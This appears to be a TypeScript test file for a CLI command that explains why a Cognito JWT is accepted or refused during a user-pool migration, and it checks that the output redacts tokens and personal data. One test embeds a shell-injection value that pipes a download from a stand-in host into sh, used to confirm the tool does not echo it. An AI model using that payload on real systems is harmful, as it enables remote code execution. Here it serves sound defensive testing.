import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import pc from 'picocolors';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import type { Explanation, Judged } from '../../../../src/cli/commands/token/result.js';
import { tokenLines } from '../../../../src/cli/commands/token/text.js';
import { folded } from '../../../../src/cli/terminal/wrapped.js';
import { createTestPools, type TestPools } from '../../../../src/testing/index.js';
import { folder } from '../../../support/folder.js';
import { run, runBin } from '../../support.js';

const NOW = Date.UTC(2026, 0, 15, 12);
const AT = ['--at', '2026-01-15T12:00:00Z'];

let pools: TestPools;
beforeAll(async () => {
  pools = await createTestPools({ serve: false, now: () => NOW });
});
afterAll(() => pools.close());

/** A file with the keys of one pool, or of several. */
function jwks(...keySets: readonly object[]): string {
  const path = join(folder(), 'jwks.json');
  const keys = keySets.flatMap((one) => (one as { keys: object[] }).keys);
  writeFileSync(path, JSON.stringify({ keys }));
  return path;
}
const newKeys = () => ['--jwks', jwks(pools.newPool.jwks())];
const legacyKeys = () => ['--jwks', jwks(pools.legacyPool.jwks())];
const both = () => ['--legacy-pool', pools.legacyPool.userPoolId, '--new-pool', pools.newPool.userPoolId];
const clients = () => ['--legacy-clients', pools.legacyPool.clientId, '--new-clients', pools.newPool.clientId];

async function explain(token: string, ...args: readonly string[]) {
  const { ending, stdout, stderr } = await run(['token', ...AT, ...args, '--json'], { input: `${token}\n` });
  return { ending, stderr, ...(JSON.parse(stdout) as Explanation & { error?: object }) };
}
const failed = (rules: readonly Judged[]) => rules.filter(({ result }) => result === 'failed').map(({ rule }) => rule);
const detailOf = (rules: readonly Judged[], wanted: string) => rules.find(({ rule }) => rule === wanted)?.detail;

describe('a token that is accepted', () => {
  it('of the new pool: who it belongs to, by the claim', async () => {
    const anna = pools.person();
    for (const [token, claim] of [
      [anna.new.accessToken(), 'legacy_sub'],
      [anna.new.idToken(), 'custom:legacy_sub'],
    ] as const) {
      const result = await explain(token, ...both(), ...clients(), ...newKeys());
      expect(result).toMatchObject({ ending: 'done', verdict: 'accepted', code: null, message: null, help: null });
      expect(result).toMatchObject({ pool: 'new', userId: anna.userId, userIdSource: 'claim' });
      expect(detailOf(result.rules, 'legacyId')).toBe(`userId is ${anna.userId}, from the claim ${claim}`);
      expect(failed(result.rules)).toEqual([]);
    }
  });

  it('of the legacy pool, where only that is named', async () => {
    const anna = pools.person();
    const result = await explain(
      `Bearer ${anna.legacy.accessToken()}`,
      ...['--legacy-pool', pools.legacyPool.userPoolId],
      ...legacyKeys(),
    );
    expect(result).toMatchObject({ ending: 'done', pool: 'legacy', userId: anna.userId, userIdSource: 'sub' });
    expect(detailOf(result.rules, 'client')).toContain('any passes here: legacyPool.clientIds is not given');
  });

  it('of a machine', async () => {
    const result = await explain(pools.newPool.machineToken(), ...both(), ...newKeys());
    expect(result).toMatchObject({ ending: 'done', userId: pools.newPool.clientId, userIdSource: 'client' });
  });

  it('by options of the verifier', async () => {
    const token = pools.newPool.accessToken({ mapped_to: 'u-5', aud: 'orders', sub: 'me' });
    const accepted = ['--access-token-claim', 'mapped_to', '--legacy-id-format', 'u-\\d', '--audience', 'bills,orders'];
    expect(await explain(token, ...both(), ...newKeys(), ...accepted)).toMatchObject({ userId: 'u-5' });
    const ownSub = await explain(token, ...both(), ...newKeys(), '--on-missing', 'own-sub');
    expect(ownSub).toMatchObject({ userId: 'me', userIdSource: 'own-sub' });
    expect(detailOf(ownSub.rules, 'audience')).toBe('orders; not checked here');
  });

  it('with keys of both pools in one file, or in several that have a key in common', async () => {
    const token = pools.person().new.accessToken();
    const all = jwks(pools.legacyPool.jwks(), pools.newPool.jwks());
    expect((await explain(token, ...both(), '--jwks', all)).verdict).toBe('accepted');
    expect((await explain(token, ...both(), '--jwks', all, ...newKeys())).verdict).toBe('accepted');
  });

  it('by the config file', async () => {
    const config = join(folder(), 'cutover.json');
    const { userPoolId: newPool, clientId } = pools.newPool;
    const values = { newPool, newClients: [clientId], tokenUse: 'access', rps: 5, legacyProfile: 'a' };
    writeFileSync(config, JSON.stringify(values));
    const result = await explain(pools.person().new.accessToken(), '--config', config, ...newKeys());
    expect(result).toMatchObject({ ending: 'done', verdict: 'accepted' });
    expect(detailOf(result.rules, 'client')).toBe(`${clientId} is in newPool.clientIds`);
  });
});

describe('a token that is refused', () => {
  it.each<[string, () => string, () => readonly string[], string, RegExp]>([
    ['its form', () => 'abc', newKeys, 'ERR_TOKEN_MALFORMED', /no dots/],
    ['encryption', () => 'a.b.c.d.e', newKeys, 'ERR_TOKEN_MALFORMED', /refresh tokens/],
    [
      'its algorithm',
      () => pools.newPool.sign({ alg: 'HS256', kid: 'k' }, {}),
      newKeys,
      'ERR_ALGORITHM_NOT_ALLOWED',
      /RS256/,
    ],
    [
      'keys of the other pool',
      () => pools.newPool.accessToken(),
      legacyKeys,
      'ERR_KEY_NOT_FOUND',
      /newPool has no key/,
    ],
    [
      'its signature',
      () => `${pools.newPool.accessToken().slice(0, -4)}AAAA`,
      newKeys,
      'ERR_SIGNATURE_INVALID',
      /signature/,
    ],
    ['a claim', () => pools.newPool.accessToken({ iat: undefined }), newKeys, 'ERR_CLAIM_INVALID', /claim iat/],
    [
      'its use',
      () => pools.person().new.idToken(),
      () => [...newKeys(), '--token-use', 'access'],
      'ERR_TOKEN_USE_NOT_ALLOWED',
      /an ID token/,
    ],
    [
      'a clock',
      () => pools.person().new.idToken({ iat: NOW / 1_000 + 595 }),
      newKeys,
      'ERR_TOKEN_NOT_YET_VALID',
      /issued 595 s in the future/,
    ],
    [
      'the audience',
      () => pools.person().new.accessToken({ aud: 'x' }),
      () => [...newKeys(), '--audience', 'orders'],
      'ERR_AUDIENCE_NOT_ALLOWED',
      /newPool\.audience/,
    ],
    [
      'the end of its pool',
      () => pools.person().legacy.idToken(),
      () => [...legacyKeys(), '--accept-until', '2026-01-01'],
      'ERR_LEGACY_POOL_CLOSED',
      /acceptUntil/,
    ],
    [
      'its sign-in',
      () => pools.person().legacy.idToken(),
      () => [...legacyKeys(), '--accept-sign-ins-before', '1767225600'],
      'ERR_LEGACY_POOL_CLOSED',
      /acceptSignInsBefore/,
    ],
    [
      'no legacy id',
      () => pools.newPool.accessToken(),
      newKeys,
      'ERR_LEGACY_ID_MISSING',
      /A resolver of your application would be asked before that/,
    ],
    [
      'a legacy id of another form',
      () => pools.newPool.accessToken({ legacy_sub: '5' }),
      newKeys,
      'ERR_LEGACY_ID_INVALID',
      /legacyId\.format/,
    ],
  ])('for %s', async (_, token, args, code, message) => {
    const result = await explain(token(), ...both(), ...args());
    expect(result).toMatchObject({ ending: 'attention', verdict: 'refused', code, userId: null, userIdSource: null });
    expect(result.message).toMatch(message);
    expect(result.help).toContain(code.toLowerCase());
    expect(failed(result.rules)).toHaveLength(1);
  });

  it('for several reasons: all of them are told, the one that decides first', async () => {
    const token = pools.newPool.idToken({
      iat: NOW / 1_000 - 9_000,
      exp: NOW / 1_000 - 5_400,
      aud: pools.legacyPool.clientId,
    });
    const result = await explain(token, ...both(), ...clients(), ...newKeys(), '--token-use', 'access');
    expect(result.code).toBe('ERR_TOKEN_EXPIRED');
    expect(failed(result.rules)).toEqual(['time', 'tokenUse', 'client', 'legacyId']);
    expect(detailOf(result.rules, 'time')).toContain('expired 1 h 30 min ago');
    expect(detailOf(result.rules, 'client')).toContain('swapped?');
  });

  it('for its time: another time does not close the legacy pool', async () => {
    const token = pools.person().legacy.idToken({ iat: NOW / 1_000 + 595, exp: NOW / 1_000 + 4_000 });
    const result = await explain(token, ...both(), ...legacyKeys(), '--accept-until', '2026-01-15T12:01:00Z');
    expect(failed(result.rules)).toEqual(['time']);
    expect(detailOf(result.rules, 'acceptUntil')).toBe('until 2026-01-15 12:01 UTC');
  });

  it('of the legacy pool, for both of its ends', async () => {
    const ends = ['--accept-until', '2026-01-01', '--accept-sign-ins-before', '2026-01-01'];
    const anna = pools.person();
    const result = await explain(anna.legacy.idToken(), ...both(), ...legacyKeys(), ...ends);
    expect(failed(result.rules)).toEqual(['acceptUntil', 'acceptSignInsBefore']);
    expect(detailOf(result.rules, 'legacyId')).toContain(anna.userId);
  });

  it('with what comes after the rule not reached', async () => {
    const { rules } = await explain(pools.newPool.accessToken(), ...both(), ...legacyKeys());
    const results = rules.map(({ rule, result }) => `${rule} ${result}`);
    expect(results.slice(0, 4)).toEqual(['form passed', 'algorithm passed', 'issuer passed', 'key failed']);
    expect(rules.slice(4).every(({ result }) => result === 'not-reached')).toBe(true);
  });
});

describe('a token of a pool that is not named', () => {
  it.each<[string, () => readonly string[]]>([
    ['no pool is', () => []],
    ['only the other one is', () => ['--new-pool', pools.newPool.userPoolId]],
  ])('%s: says whose it is, and which options to give', async (_, args) => {
    const { userPoolId, clientId } = pools.legacyPool;
    const result = await explain(pools.person().legacy.accessToken(), ...args());
    expect(result).toMatchObject({ ending: 'attention', code: 'ERR_ISSUER_NOT_TRUSTED', userPoolId });
    expect(result.message).toContain(
      `the user pool ${userPoolId} of Region eu-west-1 issued it for the app client ${clientId}. If they are yours, name them: --legacy-pool ${userPoolId} --legacy-clients ${clientId}, or --new-pool`,
    );
    expect(result.message).not.toContain('none)');
  });

  it('says no options that would do something else in a shell', async () => {
    const { userPoolId } = pools.legacyPool;
    const result = await explain(pools.legacyPool.accessToken({ client_id: 'a; curl evil.example | sh' }));
    expect(result.message).toContain(`issued it for no app client of Cognito. If they are yours, name them: `);
    expect(result.message).toMatch(new RegExp(`: --legacy-pool ${userPoolId}, or --new-pool ${userPoolId}\\.$`));
    expect(result.message).not.toContain('evil');
  });

  it('is not from Cognito', async () => {
    const result = await explain(pools.newPool.accessToken({ iss: 'https://accounts.example.com' }), ...both());
    expect(result.message).toContain('it is not from Amazon Cognito');
  });
});

describe('what is printed', () => {
  const personal = () => ({
    email: 'anna@example.com',
    phone_number: '+441234',
    name: 'Anna Example',
    'cognito:username': 'anna-user',
    identities: [{ userId: 'anna-google' }],
    jti: 'secret-jti',
    origin_jti: 'secret-origin',
  });

  it.each([[], ['--json'], ['--token-use', 'access']])(
    'is neither the token nor anything personal: %j',
    async (...args) => {
      const token = pools.person().new.idToken(personal());
      const { stdout, stderr } = await run(['token', ...AT, ...both(), ...newKeys(), ...args], { input: token });
      const printed = `${stdout}${stderr}`;
      for (const part of token.split('.')) expect(printed).not.toContain(part.slice(-20));
      expect(printed).not.toMatch(/anna|441234|secret/i);
      expect(printed).toContain('phone_number');
    },
  );

  it('shows characters that move the cursor as codes', async () => {
    const token = pools.newPool.accessToken({ sub: '\u001b[2Jx', scope: 'a\u202eb', legacy_sub: 'x' });
    const { stdout } = await run(['token', ...AT, ...both(), ...newKeys()], { input: token });
    for (const hidden of ['\u001b', '\u202e']) expect(stdout).not.toContain(hidden);
    expect(stdout).toContain('\\u001b[2Jx');
  });

  it('is a heading, a line for each rule, what the token says, and where to read on', async () => {
    const anna = pools.person();
    const good = await run(['token', ...AT, ...both(), ...newKeys()], { input: anna.new.accessToken() });
    expect(good.stdout.split('\n')[0]).toBe(`Accepted as user ${anna.userId}`);
    expect(good.stdout).toContain('\n  ok  signature     valid\n');
    expect(good.stdout).toContain('\nThe token says:\n');
    const bad = await run(['token', ...AT, ...both(), ...clients(), ...newKeys()], {
      input: pools.newPool.accessToken({ iat: 1, exp: 5, client_id: 'x' }),
    });
    expect(bad.stdout.split('\n')[0]).toBe('Refused: ERR_TOKEN_EXPIRED, and 2 more rules would refuse it');
    expect(bad.stdout).toMatch(/\n {2}NO {2}time {10}The token expired .*\n/);
    expect(bad.stdout.trimEnd()).toMatch(/docs\/errors\.md#err_token_expired$/);
    const forged = await run(['token', ...both(), ...legacyKeys()], { input: anna.new.accessToken() });
    expect(forged.stdout).toContain('\nThe token says, unverified:\n');
  });
});

describe('keys that are fetched', () => {
  /** The pool's address, which answers with its keys or with 404. */
  async function serve(status: number) {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(`${request.url}`);
      response.writeHead(status, { connection: 'close' }).end(JSON.stringify(pools.newPool.jwks()));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => void server.close());
    return { asked, endpoint: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
  }

  it('are fetched once, however many rules refuse', async () => {
    const { asked, endpoint } = await serve(200);
    const token = pools.newPool.idToken({ iat: 1, exp: 5, aud: 'x' });
    const args = [...both(), ...clients(), '--new-endpoint', endpoint, '--token-use', 'access'];
    const { rules, ending } = await explain(token, ...args);
    expect(failed(rules)).toEqual(['time', 'tokenUse', 'client', 'legacyId']);
    expect([ending, asked]).toEqual(['attention', [`/${pools.newPool.userPoolId}/.well-known/jwks.json`]]);
  });

  it('of an emulator, whose address is the issuer', async () => {
    const { endpoint } = await serve(200);
    const token = pools.newPool.accessToken({ iss: `${endpoint}/local_1`, legacy_sub: pools.person().userId });
    expect(await explain(token, '--new-pool', 'local_1', '--new-endpoint', endpoint)).toMatchObject({ ending: 'done' });
  });

  it('and are unavailable: says why, and how to go on without them', async () => {
    const { endpoint } = await serve(404);
    const args = [...both(), '--new-endpoint', endpoint];
    const result = await explain(pools.newPool.accessToken(), ...args);
    expect(result).toMatchObject({
      ending: 'unavailable',
      code: 'ERR_KEYS_UNAVAILABLE',
      error: { code: 'ERR_UNAVAILABLE', message: expect.stringContaining('answered 404. Does this pool exist') },
    });
    expect(failed(result.rules)).toEqual(['key']);
    const { stdout, stderr } = await run(['token', ...args], { input: pools.newPool.accessToken() });
    expect(stdout).toBe('');
    expect(stderr).toContain('Refused: ERR_KEYS_UNAVAILABLE');
    expect(stderr).toContain('pass the file as --jwks');
    expect(stderr).not.toMatch(/Done before|state is safe/);
  });
});

describe('wrong usage', () => {
  const TOKEN = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl';

  it.each([
    ['a token as an argument', ['token', TOKEN], 'shells keep it in their history'],
    ['a token as an option', ['token', `--token=${TOKEN}`], 'shells keep it in their history'],
    ['a token as a command', [TOKEN], "unknown command '…'"],
    ['clients without their pool', ['token', '--new-clients', 'a'], '--new-clients: needs --new-pool'],
    ['an audience without its pool', ['token', '--audience', 'a'], '--audience: needs --new-pool'],
    ['a time that is none', ['token', '--at', 'soon'], '--at: expected a date like 2026-06-30'],
    ['a pattern that is none', ['token', '--legacy-id-format', '('], '--legacy-id-format: expected uuid, any or'],
    ['no key set', ['token', '--jwks', '/nowhere.json'], '--jwks: cannot read /nowhere.json (ENOENT)'],
    [
      'one pool twice',
      ['token', '--legacy-pool', 'eu-west-1_A', '--new-pool', 'eu-west-1_A'],
      'is already in legacyPool',
    ],
    [
      'clients of one of several pools',
      ['token', '--legacy-pool', 'eu-west-1_A', '--legacy-pool', 'eu-west-1_B', '--legacy-clients', 'a'],
      '--legacy-clients: belongs to one pool',
    ],
  ])('%s is refused without showing a token', async (_, args, says) => {
    const { ending, stdout, stderr } = await run(args, { input: TOKEN });
    expect({ ending, stdout }).toEqual({ ending: 'usage', stdout: '' });
    expect(stderr).toContain(says);
    expect(stderr).not.toContain('eyJ');
  });

  it('a file that is no key set is named', async () => {
    const path = join(folder(), 'page.html');
    writeFileSync(path, '<html>');
    const { ending, stderr } = await run(['token', '--jwks', path], { input: TOKEN });
    expect(ending).toBe('usage');
    expect(stderr).toContain(`--jwks: ${path} is not a usable key set (JWKS)`);
  });

  it('no token is refused', async () => {
    const { ending, stderr } = await run(['token'], { input: ' \n' });
    expect(ending).toBe('usage');
    expect(stderr).toContain('standard input: holds no token');
  });
});

describe('the process', () => {
  it.each<[number, () => string, () => readonly string[]]>([
    [0, () => pools.person().new.accessToken(), newKeys],
    [1, () => pools.newPool.accessToken(), newKeys],
    [2, () => '', newKeys],
    [3, () => pools.newPool.accessToken(), () => ['--new-endpoint', 'http://127.0.0.1:9']],
  ])('ends with %i', async (code, token, args) => {
    const { child, ended } = runBin(['token', ...AT, ...both(), ...args()]);
    child.stdin.end(token());
    expect(await ended).toMatchObject({ code });
  });
});

it('a terminal of 60 columns is enough', async () => {
  const result = await explain(pools.newPool.accessToken(), ...both(), ...newKeys());
  const colours = pc.createColors(false);
  const lines = folded(tokenLines(result, { facts: result.token, now: NOW, colours }), 60);
  expect(lines.some((line) => line.startsWith(' '.repeat(20)))).toBe(true);
  // Key ids and addresses are one word.
  expect(lines.filter((line) => line.length > 60 && line.slice(20).includes(' '))).toEqual([]);
});
